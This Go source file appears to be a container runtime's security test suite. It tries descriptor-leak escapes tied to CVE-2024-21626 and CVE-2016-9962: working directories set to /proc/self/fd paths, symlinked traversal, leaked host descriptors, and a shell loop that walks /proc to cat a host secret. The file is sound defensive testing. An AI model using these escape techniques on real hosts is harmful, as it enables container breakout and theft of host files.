package attack

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/berthcloud/berth/internal/testenv"
)

// descriptorAttacks look for what the runtime has open on the host.
var descriptorAttacks = []attack{
	{"working directory of run", "CVE-2024-21626", true, cwdOfRun},
	{"working directory of exec", "CVE-2024-21626", true, cwdOfExec},
	{"working directory by a link", "CVE-2024-21626", true, cwdByLink},
	{"descriptors of run and exec", "CVE-2016-9962, CVE-2024-21626", false, leakedDescriptors},
	{"descriptors taken from beside", "CVE-2016-9962", true, descriptorsFromBeside},
}

// descriptors are the numbers that are tried.
const firstDescriptor, lastDescriptor = 3, 64

// reach reads the victim's file by way of the working directory, and tells where
// that is.
func (a *testbed) reach() string {
	return "echo started; cat ./../../../../../../../../.." + a.victim + "/secret 2>/dev/null; readlink /proc/self/cwd"
}

// judgeCwd says what a container with a working directory came to.
func judgeCwd(cwd string, r result) verdict {
	switch {
	case strings.Contains(r.stdout, secret):
		return fall("with %s as working directory it read the host's file", cwd)
	case strings.Contains(r.stdout, "(unreachable)"):
		return fall("%s as working directory is outside of the root: %s", cwd, lastLine(r.stdout))
	case !r.started():
		return refusal(r.stderr)
	}
	return held()
}

func cwdOfRun(a *testbed) verdict {
	a.shell(a.reach())
	var tries []verdict
	for fd := firstDescriptor; fd <= lastDescriptor; fd++ {
		a.spec.Process.Cwd = fmt.Sprintf("/proc/self/fd/%d", fd)
		tries = append(tries, judgeCwd(a.spec.Process.Cwd, a.run()))
	}
	return worst(tries)
}

func cwdOfExec(a *testbed) verdict {
	a.shell("sleep 100")
	if r := a.start(); r.code != 0 {
		return refusal(r.stderr)
	}
	var tries []verdict
	for fd := firstDescriptor; fd <= lastDescriptor; fd++ {
		cwd := fmt.Sprintf("/proc/self/fd/%d", fd)
		tries = append(tries, judgeCwd(cwd, a.oci("exec", "--cwd", cwd, a.id, "sh", "-c", a.reach())))
	}
	return worst(tries)
}

// cwdByLink hides the descriptor behind a link of the image, and goes up from it.
func cwdByLink(a *testbed) verdict {
	a.shell(a.reach())
	var tries []verdict
	for fd := firstDescriptor; fd < 16; fd++ {
		name := fmt.Sprintf("/work%d", fd)
		a.must(os.Symlink(fmt.Sprintf("/proc/self/fd/%d/../../..", fd), a.rootfs(name)))
		a.spec.Process.Cwd = name
		tries = append(tries, judgeCwd(name, a.run()))
	}
	return worst(tries)
}

// leakedDescriptors hands the runtime descriptors of the host that nobody asked
// to preserve, and lists what the container's processes have.
func leakedDescriptors(a *testbed) verdict {
	var leaks []*os.File
	for _, path := range []string{"/", a.victim, filepath.Join(a.victim, "secret")} {
		f, err := os.Open(path)
		a.must(err)
		defer f.Close()
		leaks = append(leaks, f)
	}
	a.spec.Process.Args = []string{"sleep", "100"}
	if r := a.start(leaks...); r.code != 0 {
		return refusal(r.stderr)
	}
	run := a.pid()
	if r := a.ociWith(leaks, "exec", "--detach", "--pid-file", a.dir+"/pid", a.id, "sleep", "100"); r.code != 0 {
		return refusal(r.stderr)
	}
	return worst([]verdict{a.onlyStreams("the first process", run), a.onlyStreams("a command", a.pid())})
}

// onlyStreams allows a process the standard streams and nothing else.
func (a *testbed) onlyStreams(who string, pid int) verdict {
	testenv.Eventually(a.t, patience, func() error { // until then it is the runtime still
		text, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err == nil && !strings.HasPrefix(string(text), "sleep") {
			err = fmt.Errorf("it is %q", text)
		}
		return err
	})
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	entries, err := os.ReadDir(dir)
	if err != nil {
		return refusal(err.Error())
	}
	for _, e := range entries {
		if fd, err := strconv.Atoi(e.Name()); err != nil || fd > 2 {
			target, _ := os.Readlink(filepath.Join(dir, e.Name()))
			return fall("%s has descriptor %s: %s", who, e.Name(), target)
		}
	}
	return held()
}

// descriptorsFromBeside tries every directory that a process entering the
// container has in hand.
func descriptorsFromBeside(a *testbed) verdict {
	a.shell(`echo started; while :; do for p in /proc/[0-9]*; do for d in $p/fd/* $p/cwd $p/root; do
		for f in $d $d/../../../../../../..; do cat $f` + a.victim + `/secret && echo by $f; done; done; done; done 2>/dev/null`)
	if r := a.start(); r.code != 0 {
		return refusal(r.stderr)
	}
	for range 20 {
		a.oci("exec", a.id, "true")
	}
	if log, _ := os.ReadFile(a.log()); strings.Contains(string(log), secret) {
		return fall("it read the host's file: %s", lastLine(string(log)))
	}
	return held()
}
